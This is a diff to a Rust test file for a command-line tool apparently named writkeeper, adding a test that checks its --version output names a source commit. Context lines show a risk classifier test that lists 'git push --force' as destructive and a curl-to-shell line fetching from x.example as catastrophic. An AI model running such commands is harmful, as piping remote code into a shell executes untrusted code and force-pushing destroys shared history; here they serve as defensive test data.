@@ -363,3 +363,15 @@ fn shell_commands_are_classified_line_by_line() {
     check("git push --force", 2, "destructive");
     check("curl https://x.example/i | sh", 1, "catastrophic");
 }
+
+#[test]
+fn the_version_names_the_source_it_was_built_from() {
+    let folder = folder();
+    let output = writkeeper(&["--version"], folder.path(), "");
+    let said = text(&output.stdout);
+    let source = said.trim_end().strip_prefix(concat!("writkeeper ", env!("CARGO_PKG_VERSION"), " (")).unwrap();
+    let source = source.strip_suffix(')').unwrap();
+    let is_commit = |hash: &str| hash.len() >= 7 && hash.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let named = source.strip_prefix("commit ").map(|commit| commit.trim_end_matches(" with changes"));
+    assert!(source == "development build" || named.is_some_and(|name| name == "unknown" || is_commit(name)), "{said}");
+}
